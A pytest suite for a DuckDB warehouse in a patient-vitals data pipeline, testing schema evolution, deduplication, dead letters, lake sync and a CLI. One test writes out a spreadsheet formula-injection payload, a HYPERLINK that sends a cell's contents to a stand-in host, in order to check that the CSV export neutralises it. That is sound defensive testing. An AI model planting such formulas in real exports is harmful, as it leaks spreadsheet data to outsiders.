"""The DuckDB warehouse (sink contract, dead letters, threads), the lake -> warehouse sync and the CLI."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import subprocess
import sys
import threading
from datetime import timedelta
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest
from deltalake import DeltaTable, write_deltalake

from tests.unit.test_views import V1, V2, at, diagnosis, dq, gold, identity, table_of
from vitals_lake import contract as c
from vitals_lake.config import LocalLake
from vitals_lake.lake import Lake
from warehouse import sync, views
from warehouse.__main__ import main
from warehouse.duck import INSERT_IDS_TABLE, DuckWarehouse, WarehouseError, create_table_sql
from warehouse.sink import WarehouseSink, WriteResult
from warehouse.sync import SyncState, changed_rows, sync_lake
from warehouse.tables import DEAD_LETTER_TABLE, WAREHOUSE_TABLES

REPO = Path(__file__).resolve().parents[2]
NEWS2_MAX = c.gold_column(c.NEWS2_SCORE, "max")


@pytest.fixture
def wh(tmp_path):
    w = DuckWarehouse(tmp_path / "warehouse.duckdb")
    w.ensure()
    yield w
    w.close()


def dq_table(rows):
    return table_of(c.DQ_METRICS_TABLE, rows)


# --- tables ----------------------------------------------------------------------------------------


def test_ensure_creates_tables_with_the_warehouse_schema_and_is_idempotent(wh):
    wh.ensure()  # again: no error, nothing duplicated
    for name, spec in WAREHOUSE_TABLES.items():
        cols = wh.query(
            "SELECT column_name, is_nullable FROM information_schema.columns "
            "WHERE table_name = ? ORDER BY ordinal_position",
            [name],
        ).to_pylist()
        # Exactly BigQuery's columns: the insert ids live in a side table, not a hidden column.
        assert [r["column_name"] for r in cols] == spec.schema.names
        required = {r["column_name"] for r in cols if r["is_nullable"] == "NO"}
        assert required == {f.name for f in spec.schema if not f.nullable}
    tables = set(wh.query("SELECT table_name FROM information_schema.tables")["table_name"].to_pylist())
    assert {DEAD_LETTER_TABLE, INSERT_IDS_TABLE, *views.view_names()} <= tables


def test_ensure_adds_columns_a_newer_contract_brought(tmp_path):
    path = tmp_path / "old.duckdb"
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE dq_metrics (batch_id VARCHAR NOT NULL)")
    con.close()
    with DuckWarehouse(path) as w:
        w.ensure()
        cols = w.query("SELECT * FROM dq_metrics LIMIT 0").column_names
        assert cols == WAREHOUSE_TABLES[c.DQ_METRICS_TABLE].schema.names


def test_a_warehouse_of_an_older_contract_keeps_its_rows_and_takes_the_new_columns(tmp_path):
    """docs/schema-evolution.md: Gold as a version without the diastolic pressure wrote it."""
    spec = WAREHOUSE_TABLES[c.GOLD_TABLE]
    old_schema = pa.schema([f for f in spec.schema if not f.name.startswith(c.DIASTOLIC)])
    assert len(old_schema) == len(spec.schema) - len(c.GOLD_STATS)
    path = tmp_path / "old.duckdb"
    con = duckdb.connect(str(path))
    con.execute(create_table_sql(c.GOLD_TABLE, old_schema))
    old = pa.Table.from_pylist([gold("P1", at(0), heart_rate_mean=70.0)], schema=spec.schema).select(
        old_schema.names
    )
    con.register("old_rows", old)
    con.execute(f"INSERT INTO {c.GOLD_TABLE} SELECT * FROM old_rows")
    con.close()

    with DuckWarehouse(path) as w:
        w.ensure()
        new = table_of(c.GOLD_TABLE, [gold("P2", at(0), heart_rate_mean=80.0, diastolic_mean=78.5)])
        assert w.write(c.GOLD_TABLE, new).inserted == 1
        rows = w.query(
            f"SELECT heart_rate_mean, diastolic_mean FROM {c.GOLD_TABLE} ORDER BY heart_rate_mean"
        ).to_pylist()
    assert rows == [
        {"heart_rate_mean": 70.0, "diastolic_mean": None},
        {"heart_rate_mean": 80.0, "diastolic_mean": 78.5},
    ]


def test_a_column_the_contract_dropped_leaves_an_old_warehouse(tmp_path):
    """Gold lost patient_id (minimum necessary): an old file's NOT NULL column would refuse every row."""
    spec = WAREHOUSE_TABLES[c.GOLD_TABLE]
    old_schema = pa.schema([pa.field(c.PATIENT_ID, pa.string(), nullable=False), *spec.schema])
    path = tmp_path / "old.duckdb"
    con = duckdb.connect(str(path))
    con.execute(create_table_sql(c.GOLD_TABLE, old_schema))
    con.close()
    with DuckWarehouse(path) as w:
        w.ensure()
        assert w.query(f"SELECT * FROM {c.GOLD_TABLE} LIMIT 0").column_names == spec.schema.names
        assert w.write(c.GOLD_TABLE, table_of(c.GOLD_TABLE, [gold("P2", at(0))])).inserted == 1


# --- write: idempotence, duplicates, dead letters ------------------------------------------------------


def test_write_twice_counts_duplicates_and_views_do_not_double_count(wh):
    rows = dq_table([dq("b1", "r1", at(10), 10, 1), dq("b1", "r2", at(10), 10, 3)])
    assert wh.write(c.DQ_METRICS_TABLE, rows) == WriteResult(inserted=2)
    assert wh.write(c.DQ_METRICS_TABLE, rows) == WriteResult(duplicates=2)
    # Within one batch too: the first of two rows with the same insert id lands.
    mixed = dq_table(
        [dq("b2", "r1", at(10), 5, 5), dq("b2", "r1", at(10), 5, 0), dq("b1", "r1", at(10), 10, 1)]
    )
    assert wh.write(c.DQ_METRICS_TABLE, mixed) == WriteResult(inserted=1, duplicates=2)
    assert wh.count(c.DQ_METRICS_TABLE) == 3
    daily = {r["rule"]: r for r in wh.query("SELECT * FROM data_quality_daily").to_pylist()}
    assert (daily["r1"]["checked_rows"], daily["r1"]["failed_rows"]) == (15, 6)
    assert (daily["r2"]["checked_rows"], daily["r2"]["failed_rows"]) == (10, 3)


def test_a_new_gold_version_is_not_a_duplicate(wh):
    first = table_of(c.GOLD_TABLE, [gold("P1", at(10), updated=V1, **{NEWS2_MAX: 2})])
    second = table_of(c.GOLD_TABLE, [gold("P1", at(10), updated=V2, **{NEWS2_MAX: 7})])
    assert wh.write(c.GOLD_TABLE, first).inserted == 1
    assert wh.write(c.GOLD_TABLE, second).inserted == 1
    assert wh.write(c.GOLD_TABLE, second).duplicates == 1
    assert wh.count(c.GOLD_TABLE) == 2
    got = wh.query("SELECT news2_score_max FROM patient_risk_scores")["news2_score_max"].to_pylist()
    assert got == [7]


def test_a_gold_insert_id_cannot_be_recomputed_from_a_patient_id():
    """Insert ids reach tables analysts read (dead letters): they hash the pseudonymous key, so trying
    patient ids with the window and version gives nothing."""
    row = table_of(c.GOLD_TABLE, [gold("P000123", at(10), updated=V1)])
    (insert_id,) = WAREHOUSE_TABLES[c.GOLD_TABLE].insert_ids(row)
    values = (row[k][0].as_py() for k in (c.WINDOW_SECONDS, c.WINDOW_START, c.UPDATED_AT))
    seconds, start, updated = values
    tried = {
        hashlib.sha256(repr((c.GOLD_TABLE, f"P{i:06d}", seconds, start, updated)).encode()).hexdigest()[:32]
        for i in range(1, 1000)
    }
    assert insert_id not in tried and WAREHOUSE_TABLES[c.GOLD_TABLE].key[0] == c.PATIENT_KEY


def test_rejected_rows_go_to_dead_letter_and_the_rest_land(wh):
    rows = pa.table(
        {
            c.BATCH_ID: ["ok-1", "no-rule", "bad-count", "ok-2"],
            c.WINDOW_START: [at(10)] * 4,
            c.LAYER: ["silver"] * 4,
            c.RULE: ["r", None, "r", "r"],
            c.ACTION: ["drop"] * 4,
            c.CHECKED_ROWS: ["10", "10", "ten", "7"],  # strings: cast per row, "ten" fails
            c.PASSED_ROWS: [9, 10, 10, 7],
            c.FAILED_ROWS: [1, 0, 0, 0],
            c.EVENT_DATE: [at(10).date()] * 4,
        }
    )
    result = wh.write(c.DQ_METRICS_TABLE, rows)
    assert (result.inserted, result.duplicates, result.rejected) == (2, 0, 2)
    assert sorted(wh.query("SELECT batch_id FROM dq_metrics")["batch_id"].to_pylist()) == ["ok-1", "ok-2"]
    dead = {
        json.loads(r["row_json"])["batch_id"]: r for r in wh.query("SELECT * FROM dead_letter").to_pylist()
    }
    assert set(dead) == {"no-rule", "bad-count"}
    assert "rule" in dead["no-rule"]["error"] and "NULL" in dead["no-rule"]["error"]
    assert "checked_rows" in dead["bad-count"]["error"] and "ten" in dead["bad-count"]["error"]
    assert {r["table_name"] for r in dead.values()} == {c.DQ_METRICS_TABLE}
    assert all(len(r["insert_id"]) == 32 for r in dead.values())
    assert any("REQUIRED" in e for e in result.errors)


def test_unknown_and_missing_columns(wh):
    row = dq("b1", "r", at(10), 1, 0)
    extra = pa.Table.from_pylist([{**row, "surprise": 1}])
    result = wh.write(c.DQ_METRICS_TABLE, extra)
    assert (result.inserted, result.rejected) == (0, 1)
    assert "surprise" in result.errors[0]
    # A missing NULLABLE column is NULL; a missing REQUIRED one rejects the row.
    g = gold("P1", at(10))
    g.pop(c.WARD)
    assert wh.write(c.GOLD_TABLE, pa.Table.from_pylist([g])).inserted == 1
    assert wh.query("SELECT ward FROM gold_patient_summary")["ward"].to_pylist() == [None]
    g2 = gold("P2", at(10))
    g2.pop(c.UPDATED_AT)
    result = wh.write(c.GOLD_TABLE, pa.Table.from_pylist([g2]))
    assert result.rejected == 1 and "updated_at" in result.errors[0]
    with pytest.raises(WarehouseError):
        wh.write("no_such_table", extra)


def test_a_row_duckdb_refuses_after_validation_is_dead_lettered_alone(tmp_path):
    """A constraint validation cannot know (here a CHECK on the table) fails the batch in DuckDB:
    the sink retries row by row, so only the guilty row goes to dead_letter."""
    path = tmp_path / "strict.duckdb"
    con = duckdb.connect(str(path))
    con.execute(
        "CREATE TABLE dq_metrics (batch_id VARCHAR NOT NULL, window_start TIMESTAMPTZ NOT NULL, "
        "layer VARCHAR NOT NULL, rule VARCHAR NOT NULL, action VARCHAR NOT NULL, "
        "checked_rows BIGINT NOT NULL CHECK (checked_rows < 1000), passed_rows BIGINT NOT NULL, "
        "failed_rows BIGINT NOT NULL, event_date DATE NOT NULL)"
    )
    con.close()
    with DuckWarehouse(path) as w:
        w.ensure()
        rows = dq_table(
            [dq("b1", "r", at(10), 1, 0), dq("b2", "r", at(10), 5000, 0), dq("b3", "r", at(10), 2, 1)]
        )
        result = w.write(c.DQ_METRICS_TABLE, rows)
        assert (result.inserted, result.rejected) == (2, 1)
        assert sorted(w.query("SELECT batch_id FROM dq_metrics")["batch_id"].to_pylist()) == ["b1", "b3"]
        (dead,) = w.query("SELECT * FROM dead_letter").to_pylist()
        assert json.loads(dead["row_json"])["batch_id"] == "b2" and "CHECK" in dead["error"]
        # The ids of the landed rows were kept, the refused one's was not: a retry inserts nothing.
        again = w.write(c.DQ_METRICS_TABLE, rows)
        assert (again.inserted, again.duplicates, again.rejected) == (0, 2, 1)


def test_read_only_warehouse_refuses_writes(tmp_path):
    path = tmp_path / "w.duckdb"
    with DuckWarehouse(path) as w:
        w.ensure()
        w.write(c.DQ_METRICS_TABLE, dq_table([dq("b1", "r", at(10), 1, 0)]))
    with DuckWarehouse(path, read_only=True) as ro:
        assert ro.count(c.DQ_METRICS_TABLE) == 1
        with pytest.raises(WarehouseError):
            ro.write(c.DQ_METRICS_TABLE, dq_table([dq("b2", "r", at(10), 1, 0)]))
    with pytest.raises(WarehouseError):
        DuckWarehouse(tmp_path / "missing.duckdb", read_only=True)


def test_query_takes_parameters(wh):
    wh.write(c.DQ_METRICS_TABLE, dq_table([dq("b1", "r1", at(10), 4, 1), dq("b2", "r2", at(10), 9, 0)]))
    got = wh.query("SELECT batch_id FROM dq_metrics WHERE checked_rows > ?", [5])
    assert got["batch_id"].to_pylist() == ["b2"]
    got = wh.query("SELECT batch_id FROM dq_metrics WHERE rule = $rule", {"rule": "r1"})
    assert got["batch_id"].to_pylist() == ["b1"]


def test_queries_from_threads_while_another_thread_writes(wh):
    batches = [dq_table([dq(f"b{i}", f"r{j}", at(10), 10, 1) for j in range(5)]) for i in range(30)]
    errors: list[BaseException] = []
    seen: list[int] = []
    done = threading.Event()

    def writer():
        try:
            for b in batches:
                assert wh.write(c.DQ_METRICS_TABLE, b).inserted == 5
        except BaseException as exc:  # noqa: BLE001 - reported by the main thread
            errors.append(exc)
        finally:
            done.set()

    def reader():
        try:
            while not done.is_set():
                n = wh.query("SELECT CAST(SUM(batches) AS BIGINT) AS n FROM data_quality_daily")["n"][
                    0
                ].as_py()
                seen.append(n or 0)
                tz = wh.query("SELECT current_setting('TimeZone') AS tz")["tz"][0].as_py()
                assert tz == "UTC"
        except BaseException as exc:  # noqa: BLE001 - reported by the main thread
            errors.append(exc)

    threads = [threading.Thread(target=writer), *(threading.Thread(target=reader) for _ in range(3))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    assert wh.count(c.DQ_METRICS_TABLE) == 150
    assert all(n % 5 == 0 and 0 <= n <= 150 for n in seen)  # a reader sees whole batches only


# --- sync ---------------------------------------------------------------------------------------------


class RecordingSink:
    """A sink that remembers how many rows it was offered per table (then writes through)."""

    def __init__(self, inner: DuckWarehouse) -> None:
        self.inner = inner
        self.offered: dict[str, int] = {}

    def ensure(self) -> None:
        self.inner.ensure()

    def write(self, table: str, rows: pa.Table) -> WriteResult:
        self.offered[table] = self.offered.get(table, 0) + rows.num_rows
        return self.inner.write(table, rows)

    # The sync state stays in the wrapped warehouse.
    def get_meta(self, key: str) -> str | None:
        return self.inner.get_meta(key)

    def set_meta(self, key: str, value: str) -> None:
        self.inner.set_meta(key, value)


@pytest.fixture
def lake(tmp_path):
    return Lake(LocalLake(root=tmp_path / "lake"))


def upsert_gold(lake: Lake, rows: list[dict]) -> None:
    lake.upsert("gold", table_of(c.GOLD_TABLE, rows), keys=c.GOLD_KEY, time_column=c.WINDOW_START)


def seed(lake: Lake) -> None:
    upsert_gold(
        lake,
        [gold(f"P{i}", at(10, i), news2_score_max=i, risk_level="low") for i in range(1, 6)]
        + [gold("P1", at(10), seconds=3600, heart_rate_mean=70.0, heart_rate_count=3)],
    )
    lake.append("dq_metrics", dq_table([dq("b1", "r1", at(10), 10, 1), dq("b2", "r1", at(11), 10, 0)]))
    lake.append(
        "patient_keys", table_of(c.PATIENT_KEYS_TABLE, [identity(f"P{i}", at(10)) for i in range(1, 6)])
    )
    write_deltalake(
        lake.ensure("diagnoses"),
        table_of(c.DIAGNOSIS_TABLE, [diagnosis("I10", "Hypertension", V1)]),
        mode="overwrite",
    )


def test_sync_copies_everything_once_then_nothing(lake, wh):
    seed(lake)
    copied = sync_lake(lake, wh)
    assert copied == {
        c.GOLD_TABLE: 6,
        c.ALERTS_TABLE: 0,
        c.DQ_METRICS_TABLE: 2,
        c.PATIENT_KEYS_TABLE: 5,
        c.DIAGNOSIS_TABLE: 1,
    }
    sink = RecordingSink(wh)
    assert sync_lake(lake, sink) == dict.fromkeys(WAREHOUSE_TABLES, 0)
    assert sink.offered == {}  # not even read: every version is the one synced
    # A new warehouse object on the same file keeps the state (it lives in the file).
    wh.close()
    with DuckWarehouse(wh.path) as again:
        again.ensure()
        assert sync_lake(lake, again) == dict.fromkeys(WAREHOUSE_TABLES, 0)
        assert again.count(c.GOLD_TABLE) == 6


# The reporting views name patients by key; the identity view re-identifies them.
RISK_OF_P3 = (
    "SELECT {} FROM patient_risk_scores JOIN patient_identity USING (patient_key) WHERE patient_id = 'P3'"
)


def test_sync_sends_only_what_an_upsert_changed(lake, wh):
    seed(lake)
    sync_lake(lake, wh)
    assert wh.query(RISK_OF_P3.format("risk_level")).to_pylist() == [{"risk_level": "low"}]
    # MERGE rewrites the whole file holding P3's minute; only P3's new version is new.
    upsert_gold(lake, [gold("P3", at(10, 3), updated=V2, **{NEWS2_MAX: 9, c.RISK_LEVEL: "high"})])
    lake.append("dq_metrics", dq_table([dq("b3", "r1", at(12), 4, 4)]))
    sink = RecordingSink(wh)
    copied = sync_lake(lake, sink)
    assert copied == {
        c.GOLD_TABLE: 1,
        c.ALERTS_TABLE: 0,
        c.DQ_METRICS_TABLE: 1,
        c.PATIENT_KEYS_TABLE: 0,
        c.DIAGNOSIS_TABLE: 0,
    }
    assert sink.offered == {c.GOLD_TABLE: 1, c.DQ_METRICS_TABLE: 1}
    got = wh.query(RISK_OF_P3.format("risk_level, news2_score_max"))
    assert got.to_pylist() == [{"risk_level": "high", "news2_score_max": 9}]
    assert wh.count(c.GOLD_TABLE) == 7  # both versions stored; the views see the newest
    assert sync_lake(lake, wh) == dict.fromkeys(WAREHOUSE_TABLES, 0)


def test_sync_skips_compaction_and_survives_a_recreated_table(lake, wh):
    seed(lake)
    upsert_gold(lake, [gold("P9", at(10, 9))])  # a second file to compact
    sync_lake(lake, wh)
    DeltaTable(lake.uri("gold")).optimize.compact()
    sink = RecordingSink(wh)
    assert sync_lake(lake, sink) == dict.fromkeys(WAREHOUSE_TABLES, 0)
    assert sink.offered == {}
    # The table dropped and written again (another table id): read whole; known rows are duplicates.
    shutil.rmtree(lake.uri("gold"))
    upsert_gold(lake, [gold("P1", at(10, 1), **{NEWS2_MAX: 1, c.RISK_LEVEL: "low"}), gold("P8", at(10, 8))])
    sink = RecordingSink(wh)
    copied = sync_lake(lake, sink)
    assert (copied[c.GOLD_TABLE], sink.offered[c.GOLD_TABLE]) == (1, 2)


def test_changed_rows_without_the_old_version_reads_everything(lake):
    seed(lake)
    upsert_gold(lake, [gold("P3", at(10, 3), updated=V2)])
    dt = DeltaTable(lake.uri("gold"))
    spec = WAREHOUSE_TABLES[c.GOLD_TABLE]
    assert changed_rows(dt, spec, lake.uri("gold"), {}, dt.version() - 1).num_rows == 1
    # Version 99 never existed (as if its log had been cleaned up): fall back to the whole table.
    assert changed_rows(dt, spec, lake.uri("gold"), {}, 99).num_rows == 6


def test_fragment_paths_match_log_paths_with_or_without_a_prefix(lake, monkeypatch):
    files = {"event_date=2026-11-22/part-0.parquet", "part-1.parquet"}
    assert (
        sync._relative("event_date%3D2026-11-22/part-0.parquet", files)
        == "event_date=2026-11-22/part-0.parquet"
    )
    assert sync._relative("bucket/lake/gold/event_date=2026-11-22/part-0.parquet", files) is not None
    assert sync._relative("bucket/lake/gold/part-1.parquet", files) == "part-1.parquet"
    assert sync._relative("bucket/lake/gold/part-2.parquet", files) is None
    # Should a file named by the log match no fragment, the diff reads everything rather than nothing.
    seed(lake)
    upsert_gold(lake, [gold("P3", at(10, 3), updated=V2)])
    dt = DeltaTable(lake.uri("gold"))
    monkeypatch.setattr(sync, "_relative", lambda path, files: None)
    spec = WAREHOUSE_TABLES[c.GOLD_TABLE]
    assert changed_rows(dt, spec, lake.uri("gold"), {}, dt.version() - 1).num_rows == 6


def test_sync_state_in_a_json_file_for_sinks_without_one(lake, tmp_path, wh):
    class PlainSink:  # a sink without get_meta/set_meta, like the BigQuery one may be
        def __init__(self) -> None:
            self.inner = RecordingSink(wh)

        def ensure(self) -> None: ...

        def write(self, table: str, rows: pa.Table) -> WriteResult:
            return self.inner.write(table, rows)

    seed(lake)
    sink: WarehouseSink = PlainSink()
    state_file = tmp_path / "sync.json"
    sync_lake(lake, sink, state=SyncState.file(state_file))
    saved = json.loads(state_file.read_text())["tables"]
    assert set(saved) == {
        c.GOLD_TABLE,
        c.DQ_METRICS_TABLE,
        c.PATIENT_KEYS_TABLE,
        c.DIAGNOSIS_TABLE,
    }  # no alerts
    assert saved[c.GOLD_TABLE]["version"] == DeltaTable(lake.uri("gold")).version()
    assert sync_lake(lake, sink, state=SyncState.file(state_file)) == dict.fromkeys(WAREHOUSE_TABLES, 0)
    # Without any state: everything is offered again and recognised as duplicates.
    offered_before = sum(sink.inner.offered.values())
    assert sync_lake(lake, sink) == dict.fromkeys(WAREHOUSE_TABLES, 0)
    assert sum(sink.inner.offered.values()) - offered_before == 14


# --- CLI ------------------------------------------------------------------------------------------------


def test_cli_sync_then_query_prints_rows(lake, tmp_path, capsys):
    seed(lake)
    path = str(tmp_path / "cli.duckdb")
    assert main(["sync", "--lake", str(lake.settings.root), "--warehouse", path]) == 0
    assert json.loads(capsys.readouterr().out)["copied"][c.GOLD_TABLE] == 6
    sql = (
        "SELECT patient_id, news2_score_max, risk_level"
        " FROM patient_risk_scores JOIN patient_identity USING (patient_key) ORDER BY patient_id"
    )
    assert main(["query", sql, "--warehouse", path]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split("|")[0].strip() == "patient_id"
    assert [line.split("|")[0].strip() for line in out[2:7]] == ["P1", "P2", "P3", "P4", "P5"]
    assert out[4].split("|")[1].strip() == "3" and out[-1] == "(5 rows)"
    assert main(["query", sql, "--warehouse", path, "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines()[:2] == ["patient_id,news2_score_max,risk_level", "P1,1,low"]
    assert main(["query", sql, "--warehouse", path, "--format", "json"]) == 0
    first = json.loads(capsys.readouterr().out.splitlines()[0])
    assert first == {"patient_id": "P1", "news2_score_max": 1, "risk_level": "low"}
    assert main(["query", "SELECT nope FROM nowhere", "--warehouse", path]) == 1
    assert "nowhere" in capsys.readouterr().err


def test_cli_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path, capsys):
    path = str(tmp_path / "csv.duckdb")
    with DuckWarehouse(path) as wh:
        wh.ensure()
    sql = (
        "SELECT * FROM (VALUES ('=HYPERLINK(\"http://x.example/?\"&A1,\"open\")', -5, 'P1'),"
        " ('+1+1', 2, '@SUM(A1)'), ('-2', NULL, 'ok')) AS t(ward, n, bed)"
    )
    assert main(["query", sql, "--warehouse", path, "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1] == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "-5", "P1"]  # a number stays a number
    assert rows[2] == ["'+1+1", "2", "'@SUM(A1)"] and rows[3] == ["'-2", "", "ok"]


def test_cli_views_prints_bigquery_ddl(capsys):
    assert main(["views", "--bigquery", "--project", "vitals-prod", "--dataset", "vitals_dw"]) == 0
    out = capsys.readouterr().out
    for name in views.view_names():
        assert (
            f"CREATE OR REPLACE VIEW `vitals-prod.{views.view_dataset(name, 'vitals_dw')}.{name}` AS" in out
        )
    assert "VIEW `vitals-prod.vitals_dw_reporting.patient_risk_scores`" in out
    assert "VIEW `vitals-prod.vitals_dw_identity.patient_identity`" in out
    assert "${" not in out
    # Dependencies first, so the DDL runs top to bottom.
    assert out.index("VIEW `vitals-prod.vitals_dw.gold_latest`") < out.index("patient_risk_scores` AS")
    assert main(["views", "--bigquery"]) == 2


def test_python_dash_m_runs(tmp_path):
    wh_path = tmp_path / "m.duckdb"
    with DuckWarehouse(wh_path) as w:
        w.ensure()
        w.write(c.DQ_METRICS_TABLE, dq_table([dq("b1", "rule-x", at(10) - timedelta(days=1), 8, 2)]))
    proc = subprocess.run(
        [
            *(sys.executable, "-m", "warehouse", "query"),
            *("SELECT * FROM data_quality_daily", "--warehouse", str(wh_path)),
        ],
        capture_output=True,
        text=True,
        cwd=REPO,
        check=True,
    )
    assert "rule-x" in proc.stdout and "0.25" in proc.stdout and "(1 row)" in proc.stdout
